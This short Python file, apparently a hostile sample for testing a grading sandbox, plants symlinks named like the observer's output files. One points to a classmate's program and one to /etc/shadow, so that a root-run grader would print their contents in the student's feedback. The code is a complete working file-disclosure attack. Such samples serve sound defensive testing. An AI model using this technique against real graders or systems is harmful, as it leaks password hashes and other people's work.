"""Hostile: leaves links named like the observer's files, to a classmate's program and to /etc/shadow,
so that a grader reading them as root would show their first lines in this student's feedback."""
import os
import pathlib

directory = pathlib.Path(os.environ["DISTLAB_OBSERVE_DIR"])  # any program can read its environment
directory.mkdir(parents=True, exist_ok=True)
classmate = pathlib.Path(__file__).resolve().parent / "alice.py"  # hidden in the sandbox, not outside it
rank = os.environ.get("RANK", "0")
os.symlink(classmate, directory / f"observer-errors.{rank}.txt")
os.symlink("/etc/shadow", directory / f"rank.{rank}.json")
